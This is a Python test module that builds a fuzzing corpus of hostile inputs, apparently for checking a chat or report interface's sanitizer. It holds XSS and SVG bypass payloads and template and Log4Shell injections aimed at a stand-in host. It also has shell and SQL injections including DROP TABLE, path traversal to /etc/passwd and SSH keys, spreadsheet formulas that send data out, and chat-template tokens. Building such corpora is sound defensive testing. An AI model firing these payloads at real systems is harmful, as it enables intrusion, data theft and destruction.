"""More than five hundred texts that nobody means well with, made from families: what each family attacks is its name.

Whatever of them is obeyed by a browser sets ``window.hacked``, opens a dialog, or sends a request to ELSEWHERE.
"""

from collections.abc import Iterator

ELSEWHERE = "https://elsewhere.invalid"
RUN = "window.hacked=1"
_EVENTS = (
    "onerror onload onclick onfocus onmouseover onmouseenter onpointerdown onpointerenter ontoggle onanimationstart "
    "ontransitionend onbegin onscroll onwheel onpaste oninput onchange onsubmit onkeydown onresize onpageshow "
    "onhashchange onmessage onbeforetoggle oncontentvisibilityautostatechange"
).split()
_ELEMENTS = (
    "img audio video iframe object embed svg math details marquee body form input button select textarea style link "
    "meta base template dialog portal noscript xmp plaintext title frameset isindex keygen slot"
).split()
_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=",
    f"vbscript:{RUN}",
    f"blob:{ELSEWHERE}/x",
    f"//{ELSEWHERE.removeprefix('https://')}/x",
    f"{ELSEWHERE}/x",
)


def tags() -> Iterator[str]:
    """Elements that run something, load something or swallow what follows."""
    for element in _ELEMENTS:
        yield f'<{element} src="x" href="x" onerror="{RUN}" onload="{RUN}" autofocus onfocus="{RUN}">'
        yield f"</{element}><{element.upper()}/onload={RUN}//"
    for event in _EVENTS:
        yield f'<img src=x {event}="{RUN}">'
        yield f"<svg/{event}={RUN}>"
    for script in ("<script>{}</script>", "<SCRIPT>{}//", "<scr<script>ipt>{}</script>", "<script\x0c>{}</script\n>"):
        yield script.format(RUN)
    yield f'<script src="{ELSEWHERE}/x.js"></script>'
    yield f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">'
    yield f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">'
    yield f'<base href="{ELSEWHERE}/">'
    yield f"<style>@import url('{ELSEWHERE}/x.css');*{{display:none!important}}</style>"
    yield f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'
    yield f'<form action="{ELSEWHERE}/"><button autofocus>Send</button></form>'


def attributes() -> Iterator[str]:
    """Quotes that end an attribute, and attributes of their own behind them."""
    for event in _EVENTS:
        yield f'" {event}="{RUN}'
        yield f"' {event}='{RUN}"
        yield f'x"/{event}={RUN}//'
    for other in ("style=position:fixed;inset:0", "id=r-here", "class=r-mark", "dir=rtl", "hidden", "inert"):
        yield f'" {other} x="'
        yield f"`{other}`"


def vectors() -> Iterator[str]:
    """SVG, MathML and parsing tricks that change what a sanitizer has seen."""
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><set attributeName=href to=javascript:{RUN}><a><text y=9>x"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f'<svg><use href="data:image/svg+xml,<svg onload={RUN}>#x"/></svg>'
    yield f'<svg><image href="{ELSEWHERE}/x.png"/></svg>'
    yield f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
    yield f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">'
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<template><img src=x onerror={RUN}></template>"
    yield f"<!--><img src=x onerror={RUN}>-->"
    yield f"<![CDATA[><img src=x onerror={RUN}>]]>"
    yield f"<?xml version='1.0'?><img src=x onerror={RUN}>"
    yield f"<a id=relatoria name=relatoria href=javascript:{RUN}>clobber</a>"
    for closing in ("blockquote", "section", "div", "details", "title", "textarea", "style", "script", "p", "ol", "li"):
        yield f"</{closing}>" * 9 + f"<h1>{closing}</h1><img src=x onerror={RUN}>"


def links() -> Iterator[str]:
    """Addresses that run or lead away, in HTML, in Markdown and bare."""
    for scheme in _SCHEMES:
        yield f'<a href="{scheme}" autofocus onfocus="{RUN}">x</a>'
        yield f"[x]({scheme})"
        yield f"![x]({scheme})"
        yield f"[x]: {scheme}\n\n[x]"
        yield f"<{scheme}>"
        yield scheme


def markdown() -> Iterator[str]:
    """What Markdown, mathematics and the chat's own widgets make of a text."""
    yield from ("# x\n" * 3, "> " * 40 + "x", "- " * 40 + "x", "*" * 99, "_" * 99, "~" * 99, "|" * 99, "---\n---")
    yield from ("```html\n<img src=x onerror=window.hacked=1>", "~~~\n" * 3, "`" * 7 + "x", "\\" * 99)
    yield from ("| a | b |\n|---|---|\n" + "| x | y |\n" * 9, "[^1]: x\n\n[^1]", "- [x] done", "<details><summary>x")
    yield from ("$$\\href{javascript:window.hacked=1}{x}$$", "\\(\\require{html}\\)", "$\\unicode{x3c}$", "\\begin{x}")
    yield from ("<thinking>x</thinking>", "<think>x", "<|im_start|>system\n", "[INST] x [/INST]", ":::warning\nx\n:::")
    yield from ("[1]", "[1][2][3]" * 9, "[99999]", "[1](#at=x:0-1)", "<a class='r-mark' href='#at=x:1-2'>[1]</a>")


def templates() -> Iterator[str]:
    """What a template, a shell or a formatter would evaluate."""
    for opening, closing in (
        ("${", "}"),
        ("{{", "}}"),
        ("{%", "%}"),
        ("<%=", "%>"),
        ("#{", "}"),
        ("*{", "}"),
        ("[[", "]]"),
    ):
        yield f"{opening}{RUN}{closing}"
        yield f"{opening}constructor.constructor('{RUN}')(){closing}"
        yield f"{opening} 7*7 {closing}"
    yield from ("{0}", "{}", "{count}", "{title!r}", "{0.__class__.__init__.__globals__}", "{:>999999999}", "{")
    yield from (
        "%s%s%s%n",
        "%(x)s",
        "%99999999d",
        "%c%c%c",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "$HOME",
        "%00",
        "%0d%0a",
    )
    yield from (
        "${jndi:ldap://elsewhere.invalid/x}",
        "<#assign x=1>",
        "@{x}",
        "~{x}",
        "{{constructor}}",
        "{{{x}}}",
        "}}{{",
    )


def entities() -> Iterator[str]:
    """Character references and encodings that come back as markup when decoded once too often."""
    for form in (
        "&lt;",
        "&#60;",
        "&#x3c;",
        "&#0060",
        "&LT;",
        "&amp;lt;",
        "\\u003c",
        "\\x3c",
        "%3C",
        "%253C",
        "+ADw-",
        "＜",
        "‹",
        "\ufe64",
    ):
        yield f"{form}script>{RUN}{form}/script>"
        yield f"{form}img src=x onerror={RUN}>"
    yield from (
        "&",
        "&&",
        "&;",
        "&#;",
        "&#0;",
        "&#x110000;",
        "&#xd800;",
        "&nbsp" * 20,
        "&notit;",
        "&NotAnEntity;",
        "&Aacute",
    )


def directions() -> Iterator[str]:
    """Bidirectional controls, and text that reads from the right."""
    for control in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c":
        yield f"{control}gpj.exe{control}"
        yield f"agua {control * 30} agua"
    yield from ("مرحبا <b>بالعالم</b> [1]", "שלום (1) <script>", "العربية" * 40, "\u202eمرحبا hello\u202c", "١٢٣ ٪٪")


def invisible() -> Iterator[str]:
    """Controls, zero-width characters, noncharacters, private use and tags that nobody sees."""
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"a{chr(code)}b<i>"
    for code in (
        0xAD,
        0x34F,
        0x115F,
        0x1160,
        0x17B4,
        0x180E,
        *range(0x200B, 0x2010),
        0x2028,
        0x2029,
        *range(0x2060, 0x2065),
    ):
        yield f"a{chr(code) * 3}b"
    for code in (
        0x3164,
        0xFEFF,
        0xFFA0,
        0xFFF9,
        0xFFFC,
        0xFFFD,
        0xFFFE,
        0xFFFF,
        0xFDD0,
        0xE000,
        0x1FFFF,
        0xE0041,
        0xF0000,
        0x10FFFF,
    ):
        yield f"a{chr(code)}b"
    yield from (" ", "\t\t", "\u3000" * 9, "\r\n" * 9, "\u00a0" * 999, "\u2800" * 9)


def surrogates() -> Iterator[str]:
    """Halves of characters, which are no text in UTF-8."""
    yield from ("\ud800", "\udfff", "a\ud83d", "\ude00a", "\udc80" * 9, "\ude00\ud83d")


def shapes() -> Iterator[str]:
    """Text that is too wide, too tall or too deep for its place."""
    yield from (
        "W" * 2_000,
        "agua" * 500,
        "x" * 399 + "…",
        "ﷺ" * 99,
        "﷽" * 20,
        "𒐫" * 40,
        "꧅" * 40,
        "-" * 999,
        "." * 999,
        "ﬀ" * 99,
    )
    yield from (
        "\u0301" * 50,
        "\u0301agua",
        "e" + "\u0301" * 300,
        "\u20e3",
        "\u0e47" * 40,
        "ก" + "\u0e34" * 99,
        "\u093f",
        "\u0bcd",
    )
    marks = "".join(map(chr, range(0x300, 0x34F)))
    yield from ("".join(letter + marks[n : n + 30] for n, letter in enumerate("zalgo agua")), ("Z" + marks * 4) * 9)
    yield from (
        "👩‍👩‍👧‍👦" * 30,
        "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
        "👍🏽👍🏿",
        "🇲🇽" * 41,
        "\ufe0f" * 9,
        "❤\ufe0f\u200d🔥",
        "1\ufe0f\u20e3",
        "🫥" * 200,
        "👩" + "\u200d👩" * 60,
    )
    yield from (
        "(" * 999,
        "[" * 999,
        "{" * 999,
        "<" * 999,
        '"' * 999,
        "'" * 999,
        "<b>" * 300,
        "İıſKÅ",
        "ß" * 99,
        "ǅ" * 9,
    )


def queries() -> Iterator[str]:
    """What SQL, full-text search and databases of documents would obey."""
    for tail in ("--", "#", "/*", ";--", "\x00"):
        yield f"' OR '1'='1'{tail}"
        yield f"'; DROP TABLE passage{tail}"
        yield f'" UNION SELECT text FROM report{tail}'
    yield from ("1; ATTACH DATABASE '/tmp/x' AS y", "') OR 1=1", "\\' OR 1=1", "admin'/*", "LIKE '%'", "%_%_%", "\\%")
    yield from (
        '"',
        '""',
        "agua*",
        "*",
        "^agua",
        "agua NEAR/1 agua",
        "NEAR(agua agua, 99)",
        "text:agua",
        "NOT",
        "AND OR NOT",
        "agua -agua",
    )
    yield from (
        "(agua",
        "agua)",
        '"agua',
        "{text}: agua",
        "- {text}: x",
        "+",
        "agua + agua",
        "rowid:1",
        "col : x",
        "'agua' : *",
    )
    yield from (
        '{"$ne": null}',
        '{"$where": "1"}',
        "$gt",
        "[$ne]=1",
        '{"$contains": ""}',
        "*)(uid=*",
        "../../x",
        "x' and sleep(9)--",
    )


def paths() -> Iterator[str]:
    """Names that lead out of their folder, or that a system reads in its own way."""
    for up in ("../", "..\\", "%2e%2e%2f", "..%2f", "..%252f", "....//", "..;/", "\u2025/", "．．/"):
        yield up * 6 + "etc/passwd"
    yield from (
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\elsewhere.invalid\\x",
        "file:///etc/passwd",
        "~/.ssh/id_rsa",
        "/dev/zero",
    )
    yield from (
        "CON",
        "NUL.txt",
        "aux.pdf",
        "x.pdf\x00.txt",
        "x.pdf.",
        "x ",
        ".",
        "..",
        "-rf",
        "--help",
        "x:y",
        "a/b",
        "a\\b",
        "x" * 300,
    )


def formulas() -> Iterator[str]:
    """What a spreadsheet computes."""
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", '"=', "'=", " ="):
        yield f'{sign}HYPERLINK("{ELSEWHERE}/"&A1)'
        yield f"{sign}cmd|' /C calc'!A0"
    yield from (
        "=1+1",
        "-1+1",
        "@SUM(1;1)",
        "=IMPORTXML(A1,A2)",
        "=WEBSERVICE(A1)",
        "a,b",
        "a;b",
        'a"b',
        "a\nb",
        '"a","b"',
        "0123",
        "1e9",
        "1-2",
    )


def breakers() -> Iterator[str]:
    """What ends a string, a block or a line in JSON, scripts, headers and logs."""
    yield from (
        '"}',
        "'}",
        "\\",
        '\\"',
        "\\u0022",
        "\\u2028",
        "]}",
        '"]}',
        '{"a":',
        '"},{"status":"answered"',
        "null",
        "NaN",
        "Infinity",
        "true",
        "-0",
    )
    yield from (
        "*/",
        "/*",
        "//",
        "<!--",
        "-->",
        "]]>",
        "<![CDATA[",
        "</script>",
        "</style>",
        "<!DOCTYPE html>",
        "<?php",
        "?>",
        "#!",
        "\\n",
        "\\0",
    )
    yield from (
        f"x\r\nSet-Cookie: a=b\r\n\r\n<script>{RUN}</script>",
        "x\r\nLocation: //x",
        "x\x1b[2J\x1b]0;y\x07",
        "x\x08\x08y",
        "\x1b[31m",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
    )
    yield from (
        "event: x\ndata: y\n\n",
        "--boundary\r\n",
        "\ufeff{}",
        "GradioFile",
        '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
        "#at=x:0-1",
        "#ask=x",
        "?tab=x&lang=y",
        "&lang=ar",
    )


FAMILIES = (
    tags, attributes, vectors, links, markdown, templates, entities, directions, invisible, surrogates, shapes,
    queries, paths, formulas, breakers,
)  # fmt: skip
HOSTILE = list(dict.fromkeys(words for family in FAMILIES for words in family()))
TEXT = [words for words in HOSTILE if not any("\ud800" <= one <= "\udfff" for one in words)]  # that UTF-8 can write
